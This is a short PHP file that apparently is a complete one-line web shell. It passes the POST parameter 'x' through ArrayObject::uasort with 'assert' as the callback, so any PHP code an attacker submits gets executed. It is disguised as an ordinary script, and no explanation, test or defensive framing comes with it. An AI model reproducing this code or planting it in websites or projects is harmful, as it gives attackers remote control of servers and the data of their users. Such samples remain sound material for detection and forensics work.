<?php
$e = new ArrayObject(array($_POST['x'])); $e->uasort('assert');
